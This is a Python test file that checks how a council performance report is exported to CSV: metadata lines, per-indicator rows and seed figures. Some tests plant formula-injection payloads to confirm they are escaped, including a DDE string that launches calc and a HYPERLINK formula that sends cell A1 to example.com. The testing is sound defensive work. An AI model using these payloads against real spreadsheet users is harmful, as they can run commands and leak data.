"""The performance table as open data: metadata lines, then long-format rows that parse
back with the standard library and hold every seed figure as a plain number."""

import csv
import io
import re
from dataclasses import replace

import pytest

from scrutineer.catalogue.models import Committee, Indicator, Priority, ServiceTeam, SiteDefaults, Theme
from scrutineer.collection.models import Value
from scrutineer.engine import Period
from scrutineer.reports.builder import build_document
from scrutineer.reports.models import Report
from scrutineer.reports.renderers.csvfile import render_csv

pytestmark = pytest.mark.django_db

Q1 = Period.parse("2020-21-Q1")

HEADER = [
    "code",
    "name",
    "theme",
    "service",
    "unit",
    "column",
    "period",
    "period_label",
    "value",
    "numerator",
    "denominator",
    "target",
    "status",
    "status_label",
    "display",
    "fraction",
    "target_display",
    "no_data_reason",
    "trend_previous",
    "trend_last_year",
    "comment",
]


def seed_doc(period=Q1):
    return build_document(Report.objects.get(period=period))


def split(text):
    """The "# " metadata lines, and the data parsed with the stdlib csv module."""
    all_lines = text.splitlines(keepends=True)
    meta = [line.rstrip("\r\n") for line in all_lines if line.startswith("#")]
    data = "".join(line for line in all_lines if not line.startswith("#"))
    reader = csv.DictReader(io.StringIO(data, newline=""))
    return meta, reader.fieldnames, list(reader)


def by_key(rows):
    return {(r["code"], r["column"]): r for r in rows}


def test_metadata_lines_come_first(seed_council):
    text = render_csv(seed_doc())
    meta, _, _ = split(text)
    assert text.splitlines()[: len(meta)] == meta  # all of them before the header
    assert meta[0] == "# Housing and Community Overview & Scrutiny performance Q1 2020/21"
    assert "# Period: 2020-21-Q1 (Q1 2020/21)" in meta
    assert "# Council: Dacorum Borough Council" in meta
    assert "# Committee: Housing and Community Overview & Scrutiny, meeting of 9 September 2020" in meta
    (licence,) = [line for line in meta if line.startswith("# Licence:")]
    assert licence == (
        "# Licence: Open Government Licence v3.0 "
        "https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/"
    )
    assert text.splitlines()[len(meta)] == ",".join(HEADER)
    assert "\r\n" in text and "\n\n" not in text


def test_one_row_per_indicator_per_column_in_table_order(seed_council):
    _, fieldnames, rows = split(render_csv(seed_doc()))
    assert fieldnames == HEADER
    assert [(r["code"], r["column"], r["period"], r["period_label"]) for r in rows[:3]] == [
        ("YP01a", "current", "2020-21-Q1", "Q1 2020/21"),
        ("YP01a", "previous", "2019-20-Q4", "Q4 2019/20"),
        ("YP01a", "last_year", "2019-20-Q1", "Q1 2019/20"),
    ]
    assert [r["code"] for r in rows[::3]] == ["YP01a", "CSU10", "CSU11", "CSU12", "CSU06"]
    assert len(rows) == 15
    csu11 = by_key(rows)[("CSU11", "current")]
    assert csu11["name"] == "Call Handling: Abandoned Call Rate"
    assert csu11["theme"] == "Dacorum Delivers - Performance excellence"
    assert csu11["service"] == "Customer Services"
    assert csu11["unit"] == "%"


# (code, column) → value, numerator, denominator, target, status, display, fraction, target display
SEED = {
    ("YP01a", "current"): ("", "", "", "", "no-data", "No Data", "", "Info Only"),
    ("YP01a", "previous"): ("2102", "", "", "", "info-only", "2102 Attendances", "", "Info Only"),
    ("YP01a", "last_year"): ("10155", "", "", "", "info-only", "10155 Attendances", "", "Info Only"),
    ("CSU10", "current"): ("79.33", "", "", "300", "green", "79.33 Second(s)", "", "Target: 300 Second(s)"),
    ("CSU10", "previous"): ("325", "", "", "300", "amber", "325 Second(s)", "", "Target: 300 Second(s)"),
    ("CSU10", "last_year"): (
        "314.33",
        "",
        "",
        "300",
        "amber",
        "314.33 Second(s)",
        "",
        "Target: 300 Second(s)",
    ),
    ("CSU11", "current"): ("3.28", "640", "19498", "20", "green", "3.28%", "640 / 19498", "Target: 20%"),
    ("CSU11", "previous"): ("10.94", "3077", "28131", "20", "green", "10.94%", "3077 / 28131", "Target: 20%"),
    ("CSU11", "last_year"): (
        "12.52",
        "3528",
        "28174",
        "20",
        "green",
        "12.52%",
        "3528 / 28174",
        "Target: 20%",
    ),
    ("CSU12", "current"): ("0", "", "", "450", "not-measured", "0 Second(s)", "", "Target: 450 Second(s)"),
    ("CSU12", "previous"): ("203", "", "", "450", "green", "203 Second(s)", "", "Target: 450 Second(s)"),
    ("CSU12", "last_year"): ("195", "", "", "450", "green", "195 Second(s)", "", "Target: 450 Second(s)"),
    ("CSU06", "current"): ("99.87", "1489", "1491", "80", "green", "99.87%", "1489 / 1491", "Target: 80%"),
    ("CSU06", "previous"): ("100", "634", "634", "80", "green", "100%", "634 / 634", "Target: 80%"),
    ("CSU06", "last_year"): ("99.76", "2530", "2536", "80", "green", "99.76%", "2530 / 2536", "Target: 80%"),
}
FIELDS = ("value", "numerator", "denominator", "target", "status", "display", "fraction", "target_display")


def test_every_seed_figure_is_there_as_a_plain_rounded_number(seed_council):
    _, _, rows = split(render_csv(seed_doc()))
    found = by_key(rows)
    assert set(found) == set(SEED)
    for key, expected in SEED.items():
        assert tuple(found[key][f] for f in FIELDS) == expected, key
    # CSU10's quarter is the mean of three months, 79.333…: rounded to 2 places as shown.
    assert float(found[("CSU10", "current")]["value"]) == 79.33
    assert found[("CSU12", "current")]["status_label"] == "Not measured"


def test_no_data_is_empty_with_its_reason_never_zero(seed_council):
    _, _, rows = split(render_csv(seed_doc()))
    yp01a = by_key(rows)[("YP01a", "current")]
    reason = "The APGs have been closed during this period due to CV-19 guidance."
    assert yp01a["value"] == ""
    assert yp01a["no_data_reason"] == reason
    assert yp01a["comment"] == reason


def test_trends_and_comments(seed_council):
    _, _, rows = split(render_csv(seed_doc()))
    found = by_key(rows)
    csu10 = found[("CSU10", "current")]
    assert (csu10["trend_previous"], csu10["trend_last_year"]) == ("improving", "improving")
    assert csu10["comment"] == "KPI Achieved."
    assert found[("CSU06", "current")]["trend_previous"] == "worsening"
    for column in ("previous", "last_year"):
        row = found[("CSU10", column)]
        assert (row["trend_previous"], row["trend_last_year"]) == ("", ""), column
    assert found[("CSU12", "current")]["comment"] == "No face to face meetings during the lockdown period."


def test_a_period_without_figures_has_rows_of_no_data(seed_council):
    _, _, rows = split(render_csv(seed_doc(Period.parse("2018-19-Q2"))))
    assert len(rows) == 15
    assert {r["status"] for r in rows} == {"no-data"}
    assert {r["value"] for r in rows} == {""}


def test_typed_text_cannot_run_as_a_spreadsheet_formula(seed_council):
    Value.objects.filter(indicator__code="CSU10", period=Q1).update(
        approver_comment='=HYPERLINK("http://example.com","Click")'
    )
    _, _, rows = split(render_csv(seed_doc()))
    comment = by_key(rows)[("CSU10", "current")]["comment"]
    assert comment == '\'=HYPERLINK("http://example.com","Click")'
    # Figures are left alone: a display such as "-3.5%" is data, not typed text.
    assert by_key(rows)[("CSU10", "current")]["display"] == "79.33 Second(s)"


def test_metadata_stays_one_unquoted_line_whatever_the_title(seed_council):
    doc = replace(
        seed_doc(),
        title='Quarter 1, "draft"\nsecond line',
        restatements=("CSU10 Jun-2020: restated from 79.33 Second(s) to 80.5 Second(s).",),
        version=2,
    )
    text = render_csv(doc)
    meta, fieldnames, rows = split(text)
    assert fieldnames == HEADER and len(rows) == 15
    assert "# Report: Quarter 1, 'draft' second line (version 2)" in meta
    assert "# Restated: CSU10 Jun-2020: restated from 79.33 Second(s) to 80.5 Second(s)." in meta
    assert all(line.startswith("# ") for line in meta)


def test_a_report_without_a_meeting_date_says_only_the_committee(seed_council):
    meta, _, rows = split(render_csv(replace(seed_doc(), meeting_date=None)))
    assert "# Committee: Housing and Community Overview & Scrutiny" in meta
    assert len(rows) == 15


DDE = "+cmd|' /C calc'!A0"


def test_formula_injection_in_the_display_column_is_escaped(seed_council):
    # A negative figure puts the unit's "+cmd|…" after "-5 ": the cell "-5 +cmd|' /C calc'!A0"
    # is the DDE formula =-5+cmd|… to a spreadsheet, so the display is guarded as text.
    Indicator.objects.filter(code="CSU12").update(unit=DDE)
    Value.objects.filter(indicator__code="CSU12").update(value=-5)
    _, _, rows = split(render_csv(seed_doc()))
    csu12 = by_key(rows)[("CSU12", "current")]
    assert csu12["display"] == f"'-5 {DDE}"
    assert csu12["unit"] == f"'{DDE}"
    assert csu12["value"] == "-5"  # a plain number stays a number
    assert csu12["target_display"] == f"Target: 450 {DDE}"  # starts with text: no formula


def hostile(text):
    return f'=HYPERLINK("http://example.com/?"&A1,"{text}"),{DDE}'


def test_no_cell_of_the_report_csv_can_start_a_formula(seed_council):
    """Every piece of text that reaches the CSV, typed anywhere, read back cell by cell the
    way a spreadsheet splits the file (the metadata lines too, at their commas)."""
    SiteDefaults.objects.update(council_name=hostile("council"))
    for model in (Committee, Indicator, Theme, Priority, ServiceTeam):
        for pk in model.objects.values_list("pk", flat=True):  # names are unique
            model.objects.filter(pk=pk).update(name=hostile(f"{model.__name__} {pk}"))
    Indicator.objects.update(unit=DDE)
    Value.objects.update(approver_comment=hostile("comment"), no_data_reason=" " + hostile("reason"))
    Value.objects.filter(value__isnull=False).update(value=-5)
    Report.objects.update(title=hostile("title"))
    doc = replace(seed_doc(), restatements=(f"CSU10 Jun-2020: restated from -5 {DDE} to -6 {DDE}.",))
    text = render_csv(doc)
    cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
    assert len(cells) > 15 * len(HEADER)
    starts = ("=", "+", "-", "@", "\t", "\r", "\n")
    unsafe = [
        cell
        for cell in cells
        if cell.lstrip().startswith(starts) and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?%?", cell)
    ]
    assert unsafe == []
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert "-5" in cells  # numbers are left as numbers
